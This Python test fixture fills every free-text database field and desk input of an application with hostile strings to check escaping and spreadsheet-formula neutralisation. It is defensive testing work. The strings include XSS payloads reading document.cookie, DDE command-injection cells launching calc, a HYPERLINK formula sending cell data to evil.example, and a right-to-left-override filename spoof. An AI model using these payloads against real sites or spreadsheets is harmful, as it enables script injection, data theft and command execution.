"""A world in which every field holds what somebody might write to do harm: through the road and
the desk where they take it, and then in every column of free text that the database has, so that a
column which comes later is filled, too."""

from __future__ import annotations

from contextlib import suppress
from itertools import cycle
from pathlib import Path
from typing import Any

import sqlalchemy as sa

from browser import world as worlds
from browser.world import World
from listener.desk import Desk
from listener.desk.inbox import Picked
from listener.errors import ListenerError
from listener.spreadsheet import cell
from listener.storage import case_detail, people
from listener.storage.tables import Base, Told, Words
from listener.wishes import Wish

MARK = "owned"
TEXTS = (
    f"<script>document.title='{MARK}';alert(1)</script>",
    f"\"'><img src=x onerror=\"document.title='{MARK}'\"><svg onload=alert(1)>",
    "**negrita** [pincha](javascript:alert(1)) ![x](https://evil.example/a.png) `c` $x^2$ "
    ":material/delete: :red[rojo] {{7*7}} {name} %s",
    '=HYPERLINK("https://evil.example/?"&A1,"pincha")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\u202e\u2066gnp.exe\u2069\u202c \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd",
    "😀👩‍👩‍👧‍👦🇪🇸" * 400,
    "Z\u0335\u0321\u035d" * 300,
    "W" * 10_000,
    "https://evil.example/" + "a" * 3000,
    "nul\x00bell\x07esc\x1b[31m del\x7f sep\u2028\ufeff\ufffe",
    "javascript:alert(document.cookie)",
    "</style></title></textarea><iframe srcdoc='<script>parent.document.title=1</script>'>",
    "   ",
)
# What stands in these is the program's own: keys, states, hashes, sealed values, whole files.
_OURS = frozenset(
    (
        *("cursor", "reply_to", "repost_of", "password_hash", "customer_number_sealed", "sealed"),
        *("number_sealed", "content_type", "text", "key"),
    )
)
_OWN_TABLES = frozenset(("config_edits", "raw_pages"))
# Short texts that come from outside, or that people write; the keys among them stay unique.
_SHORT = (
    *(("authors", "handle"), ("readings", "model"), ("notifications", "recipient")),
    *(("case_tags", "tag"), ("saved_views", "name"), ("mentions", "site"), ("rejects", "origin")),
)


def build(folder: Path) -> World:
    world = worlds.build(folder)
    _said_by_people(world)
    with world.db.write() as session:
        for mapper in Base.registry.mappers:
            _sweep(session, mapper.class_)
    return world


def _said_by_people(world: World) -> None:
    """Notes, tags, views, silences and reasons, as far as the desk takes them."""
    desk = Desk(world.db, world.settings)
    texts = cycle(TEXTS)
    with world.db.read() as session:
        ana = people.get(session, "ana")
    assert ana is not None
    for number in world.cases.values():
        for _ in range(3):
            desk.cases.note(ana, number, f"{next(texts)} ")
        with world.db.read() as session:
            detail = case_detail.get(session, number)
        assert detail is not None
        picked = [Picked(number, detail.summary.version)]
        _try(desk.inbox.tag, ana, picked, next(texts)[:40])
    for text in TEXTS:
        _try(desk.inbox.save_view, ana, text[:60], Wish(search=text[:100]))
    lucia = world.cases["lucia"]
    with world.db.read() as session:
        detail = case_detail.get(session, lucia)
    assert detail is not None
    desk.promise.suppress(ana, lucia, version=detail.summary.version, reason=TEXTS[0] + TEXTS[7])


def _try(work: Any, *arguments: Any) -> None:
    """What the desk refuses with words is safe already."""
    with suppress(ListenerError):
        work(*arguments)


def _sweep(session: Any, table: Any) -> None:
    if table.__tablename__ in _OWN_TABLES:
        return
    texts = cycle(TEXTS)
    columns = [c for c in table.__table__.columns if _is_free(table.__tablename__, c)]
    for number, row in enumerate(session.scalars(sa.select(table))):
        for column in columns:
            said = next(texts)
            if isinstance(column.type, sa.String) and column.type.length:
                said = f"{said.replace(chr(0), '')[: column.type.length - 6]}-{number}"
            setattr(row, column.key, said)
        if table.__tablename__ == "mentions":
            row.text = f"{row.text} {next(texts)}\n{next(texts)}"  # the spans stay where they are
            row.tags = [next(texts)[:200] for _ in range(3)]
            row.links = [next(texts)[:200]]
        elif table.__tablename__ == "alerts":
            row.subject = {k: _said(k, v, next(texts)) for k, v in row.subject.items()}
        elif table.__tablename__ in ("crm_people", "crm_events"):
            row.extra = {next(texts)[:40]: next(texts)}


def _is_free(table: str, column: sa.Column[Any]) -> bool:
    if (table, column.key) in _SHORT:
        return not column.foreign_keys
    return (
        isinstance(column.type, Words | Told) and column.key not in _OURS and not column.primary_key
    )


def _said(key: str, value: Any, text: str) -> Any:
    return (
        text if key in ("source", "author", "name", "error") and isinstance(value, str) else value
    )


def formulas(rows: list[list[str]]) -> list[str]:
    """Cells that a spreadsheet would run."""
    return [
        value[:80]
        for row in rows
        for value in row
        if cell(value) != value and not _is_number(value)
    ]


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True
